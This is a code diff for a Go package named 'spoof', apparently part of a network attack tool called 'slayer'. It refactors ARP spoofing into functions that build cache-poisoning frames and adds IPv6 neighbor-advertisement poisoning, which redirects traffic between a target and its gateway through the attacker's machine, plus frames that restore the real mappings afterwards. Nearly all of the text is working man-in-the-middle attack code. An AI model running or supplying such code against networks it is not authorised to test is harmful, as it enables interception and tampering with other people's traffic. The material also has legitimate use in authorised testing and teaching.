@@ -1,38 +1,76 @@
 package spoof
 
 import (
-	"context"
-	"fmt"
 	"net"
 	"time"
 
 	"github.com/prabalesh/slayer/internal/networking/arp"
+	"github.com/prabalesh/slayer/internal/networking/ndp"
 )
 
-func Spoof(ctx context.Context, iface *net.Interface, targetIP net.IP, targetMAC net.HardwareAddr, gatewayIP net.IP, gatewayMAC net.HardwareAddr) {
-	attackerMAC := iface.HardwareAddr
-
-	fmt.Printf("[*] Starting ARP spoofing for %s ⇄ %s...\n", targetIP, gatewayIP)
-
-	ticker := time.NewTicker(1 * time.Second)
-	defer ticker.Stop()
-
-	for {
-		select {
-		case <-ctx.Done():
-			return
-		case <-ticker.C:
-			// Poison target: "Gateway is at our MAC"
-			packet1 := arp.BuildPacket(attackerMAC, targetMAC, gatewayIP, targetIP, 2)
-			if err := arp.Send(iface, packet1, targetMAC); err != nil {
-				fmt.Printf("[!] Failed to send ARP to target %s: %v\n", targetIP, err)
-			}
-
-			// Poison gateway: "Target is at our MAC"
-			packet2 := arp.BuildPacket(attackerMAC, gatewayMAC, targetIP, gatewayIP, 2)
-			if err := arp.Send(iface, packet2, gatewayMAC); err != nil {
-				fmt.Printf("[!] Failed to send ARP to gateway %s: %v\n", gatewayIP, err)
-			}
+// Restore phase settings: correct replies are repeated so a single lost
+// frame doesn't leave a stale cache entry behind.
+const (
+	RestoreCount    = 5
+	RestoreInterval = 200 * time.Millisecond
+)
+
+// PoisonFrames builds the replies telling the target that the gateway is at
+// our MAC and/or the gateway that the target is at our MAC.
+func PoisonFrames(dir Direction, attackerMAC net.HardwareAddr, targetIP net.IP, targetMAC net.HardwareAddr, gatewayIP net.IP, gatewayMAC net.HardwareAddr) []arp.Frame {
+	var frames []arp.Frame
+	if dir.poisonsTarget() {
+		// Poison target: "Gateway is at our MAC"
+		frames = append(frames, arp.Frame{Packet: arp.BuildPacket(attackerMAC, targetMAC, gatewayIP, targetIP, arp.OperationReply), Dst: targetMAC})
+	}
+	if dir.poisonsGateway() {
+		// Poison gateway: "Target is at our MAC"
+		frames = append(frames, arp.Frame{Packet: arp.BuildPacket(attackerMAC, gatewayMAC, targetIP, gatewayIP, arp.OperationReply), Dst: gatewayMAC})
+	}
+	return frames
+}
+
+// RestoreFrames builds the replies giving the target the real gateway MAC and
+// the gateway the real target MAC, undoing the poisoning.
+func RestoreFrames(attackerMAC net.HardwareAddr, targetIP net.IP, targetMAC net.HardwareAddr, gatewayIP net.IP, gatewayMAC net.HardwareAddr) []arp.Frame {
+	return []arp.Frame{
+		// Tell target: "Gateway is at gateway's MAC"
+		{Packet: arp.BuildPacketFrom(attackerMAC, gatewayMAC, targetMAC, gatewayIP, targetIP, arp.OperationReply), Dst: targetMAC},
+		// Tell gateway: "Target is at target's MAC"
+		{Packet: arp.BuildPacketFrom(attackerMAC, targetMAC, gatewayMAC, targetIP, gatewayIP, arp.OperationReply), Dst: gatewayMAC},
+	}
+}
+
+// NDPPoisonFrames is the IPv6 counterpart of PoisonFrames: neighbor
+// advertisements telling the target that the router's addresses are at our
+// MAC and/or the router that the target's addresses are at our MAC.
+func NDPPoisonFrames(dir Direction, attackerMAC, targetMAC net.HardwareAddr, targetIPs []net.IP, routerMAC net.HardwareAddr, routerIPs []net.IP) []arp.Frame {
+	var frames []arp.Frame
+	if dir.poisonsTarget() {
+		frames = advertise(frames, attackerMAC, targetMAC, routerIPs, attackerMAC, true)
+	}
+	if dir.poisonsGateway() {
+		frames = advertise(frames, attackerMAC, routerMAC, targetIPs, attackerMAC, false)
+	}
+	return frames
+}
+
+// NDPRestoreFrames gives the target the router's real MAC and the router the
+// target's real MAC for every IPv6 address, undoing NDPPoisonFrames.
+func NDPRestoreFrames(attackerMAC, targetMAC net.HardwareAddr, targetIPs []net.IP, routerMAC net.HardwareAddr, routerIPs []net.IP) []arp.Frame {
+	frames := advertise(nil, attackerMAC, targetMAC, routerIPs, routerMAC, true)
+	return advertise(frames, attackerMAC, routerMAC, targetIPs, targetMAC, false)
+}
+
+// advertise appends one advertisement to dst per address, claiming it is at
+// mac. Addresses that don't fit a frame are skipped.
+func advertise(frames []arp.Frame, attackerMAC, dst net.HardwareAddr, ips []net.IP, mac net.HardwareAddr, router bool) []arp.Frame {
+	for _, ip := range ips {
+		packet, err := ndp.NewAdvertisement(attackerMAC, dst, ip, mac, router).Marshal()
+		if err != nil {
+			continue
 		}
+		frames = append(frames, arp.Frame{Packet: packet, Dst: dst})
 	}
+	return frames
 }